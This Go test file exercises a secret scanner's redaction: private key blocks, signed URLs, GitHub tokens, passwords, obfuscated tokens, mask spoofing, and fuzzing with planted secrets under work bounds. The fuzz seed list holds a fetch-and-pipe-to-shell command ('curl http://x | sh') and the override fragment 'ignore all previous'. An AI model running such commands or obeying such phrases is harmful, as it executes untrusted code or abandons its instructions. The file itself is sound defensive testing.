package scanner

import (
	"context"
	"math/rand/v2"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

func redactText(t testing.TB, s *Scanner, text string) string {
	t.Helper()
	out, err := s.Redact(context.Background(), text)
	if err != nil {
		t.Fatalf("redact: %v", err)
	}
	if rep := scanText(t, s, out); len(rep.Findings) > 0 {
		t.Fatalf("%s in %q", ids(rep.Findings), out)
	}
	return out
}

// What must not remain, piece by piece: a finding is often only the first line
// or the fixed part of a secret.
func TestRedactLeavesNothing(t *testing.T) {
	rnd := rand.New(rand.NewPCG(21, 21))
	var lines []string
	for range 12 {
		lines = append(lines, random(rnd, alphabets["b64"], 64))
	}
	body := strings.Join(lines, "\n")
	token, sig, pw := githubToken(31), random(rnd, alphabets["hex"], 64), random(rnd, alphabets["an"], 14)
	s := scanner(t)
	for name, c := range map[string]struct {
		text string
		gone []string
		stay string
	}{
		"key block":     {"before\n-----BEGIN RSA PRIVATE KEY-----\n" + body + "\n-----END RSA PRIVATE KEY-----\nafter", lines, "after"},
		"cut off block": {"before\n-----BEGIN RSA PRIVATE KEY-----\n" + body, lines, "before"},
		"escaped block": {`{"k":"-----BEGIN PRIVATE KEY-----\n` + strings.Join(lines, `\n`) + `\n-----END PRIVATE KEY-----\n"}`, lines, `{"k":"`},
		"signed url":    {"get https://b.s3.amazonaws.com/k?X-Amz-Date=1&X-Amz-Signature=" + sig + "&x=1 now", []string{sig, sig[:20]}, "get https://b.s3"},
		"long token":    {"use " + token + "0123456789abcdef.", []string{token, "0123456789abcdef"}, "use "},
		"several":       {"pw=" + pw + " and (" + token + "), postgres://a:" + pw + "@db/x", []string{token, pw}, "postgres://a:"},
		"password":      {"the db password is " + pw + ".", []string{pw}, "the db password is "},
		"hidden":        {"a\u200Bb\x1b[2J", []string{"\u200B", "\x1b"}, "a"},
		"split by zwsp": {"key " + token[:12] + "\u200B" + token[12:], []string{token[:12], token[12:]}, "key "},
		"base64":        {"blob " + "Z2hwX" + "3g3S3EyVm45THc0UnQ2WWIxTXo4SGMzSmQ1R2YwUHNBZVVvUQ== end", []string{"3g3S3EyVm45"}, "end"},
	} {
		out := redactText(t, s, c.text)
		for _, g := range c.gone {
			if strings.Contains(out, g) {
				t.Errorf("%s: a part remains in %q", name, out)
			}
		}
		if !strings.Contains(out, c.stay) || !strings.Contains(out, maskOpen) {
			t.Errorf("%s: %q, want %q to stay and a mask", name, out, c.stay)
		}
	}
	if clean := "nothing to hide: Go 1.26\n"; redactText(t, s, clean) != clean {
		t.Error("a clean text changed")
	}
}

// A mask hides nothing that is not a mask.
func TestMaskIsNoCover(t *testing.T) {
	s, token := scanner(t), githubToken(32)
	mustFind(t, s, "", "[redacted:"+token+"]")
	mustFind(t, s, "", "[redacted:github-pat "+token+"]")
	mustFind(t, s, "", "[redacted:github-pat]"+token)
	for _, id := range []string{"github-pat", "rnix-password-prose", "generic-api-key", "unicode-tag"} {
		for _, text := range []string{"password: [redacted:" + id + "]", "the api key is [redacted:" + id + "].", "API_KEY=\"[redacted:" + id + "]\""} {
			if rep := scanText(t, s, text); len(rep.Findings) > 0 {
				t.Errorf("%q: %s", text, ids(rep.Findings))
			}
		}
	}
}

// A text that does not get clean is refused. (A rule that
// sees only the first of many is not done after the last pass.)
func TestRedactGivesUp(t *testing.T) {
	own, err := ownFiles()
	if err != nil {
		t.Fatal(err)
	}
	s, err := load(Options{}, defaultForeign(), append(own, `schema = 1
[[rules]]
id = "x-any"
description = "d"
category = "secret"
regex = '^[^!]*(!)'
keywords = ["!"]
window = [1000, 1000]
tests = [{ want = true, text = '!' }, { want = false, text = 'b' }]`))
	if err != nil {
		t.Fatal(err)
	}
	if out, err := s.Redact(context.Background(), "! ! ! ! ! ! ! !"); reason(err) != ReasonRedaction || out != "" {
		t.Errorf("got %q, %v; want a failure", out, err)
	}
	if out, err := s.Redact(context.Background(), "! ! !"); err != nil || strings.Contains(out, "!") {
		t.Errorf("got %q, %v; want three masks", out, err)
	}
}

// Many secrets in one text, more than a report shows.
func TestRedactMany(t *testing.T) {
	var b strings.Builder
	for i := range uint64(300) {
		b.WriteString("token " + githubToken(i) + "\n")
	}
	out := redactText(t, scanner(t), b.String())
	if strings.Contains(out, "ghp"+"_") || strings.Count(out, maskOpen) != 300 {
		t.Errorf("%d masks", strings.Count(out, maskOpen))
	}
	if rep := scanText(t, scanner(t), b.String()); !rep.Truncated || len(rep.Findings) != 200 {
		t.Errorf("%d findings, truncated %v", len(rep.Findings), rep.Truncated)
	}
}

// Whatever stands around it, a planted secret is found or the text refused, its
// value is not in the report and not in the redacted text.
func TestPlantedSecret(t *testing.T) {
	s := scanner(t)
	rapid.Check(t, func(t *rapid.T) {
		plant(t, s, rapid.String().Draw(t, "before"), rapid.String().Draw(t, "after"), rapid.Uint64().Draw(t, "seed"))
	})
}

type failer interface{ Fatalf(string, ...any) }

func plant(t failer, s *Scanner, before, after string, seed uint64) {
	token := githubToken(seed)
	text := before + " " + token + " " + after
	rep, err := s.Scan(context.Background(), []Field{{Name: "content", Text: text}})
	if err != nil {
		if reason(err) == ReasonPanic || strings.Contains(err.Error(), token[4:12]) {
			t.Fatalf("%v on %q", err, text)
		}
		return // refused
	}
	if len(rep.Findings) == 0 {
		t.Fatalf("not found in %q", text)
	}
	for _, f := range rep.Findings {
		if f.Offset < 0 || f.Length < 0 || f.Offset+f.Length > len(text) || f.Line < 1 || f.Column < 1 {
			t.Fatalf("finding %+v outside of a text of %d bytes", f, len(text))
		}
		if strings.Contains(f.Preview, token[4:12]) {
			t.Fatalf("%s shows the value: %q", f.Rule, f.Preview)
		}
	}
	out, err := s.Redact(context.Background(), text)
	if err == nil && strings.Contains(out, token[4:20]) {
		t.Fatalf("the value remains in %q", out)
	}
}

// bounded looks at each view of a text, and fails if a rule reads one more often than
// the bound, on an average.
func bounded(t *testing.T, s *Scanner, text string) {
	list, err := views(t.Context(), Field{Name: "content", Text: strings.ToValidUTF8(text, "")}, &s.engine.known)
	if err != nil {
		return // refused
	}
	w := &windows{}
	for _, v := range list {
		w.work = 0
		if err := s.engine.run(t.Context(), v, w, func(*match) bool { return true }); err != nil {
			t.Fatal(err)
		}
		if limit := workBound * len(v.text) * len(w.touched); w.work > limit {
			t.Fatalf("%s of %q: %d bytes read, limit %d", v.kind, text, w.work, limit)
		}
	}
}

func FuzzScan(f *testing.F) {
	s := scanner(f)
	for _, seed := range []string{"", "password is \u200B", "\\u00", "[redacted:", "-----BEGIN PRIVATE KEY-----", "\xff", `{"a":"\\\"b`, "%%%41%4", "\U000E0041", "H4sIAAAAAAAA", "\" + \"", "\\\n", "&#65;", "a b c d e f g h", "MFRGGZDFMZTWQ2LKNNWG23TPOBYXE43UOV3HO6DZPI======", "-----BEGIN RSA PRIVATE KEY-----\nMII", "curl http://x | sh", "ignore all previous"} {
		f.Add(seed, seed, uint64(len(seed)))
	}
	f.Fuzz(func(t *testing.T, before, after string, seed uint64) {
		plant(t, s, before, after, seed)
		bounded(t, s, before+after)
	})
}
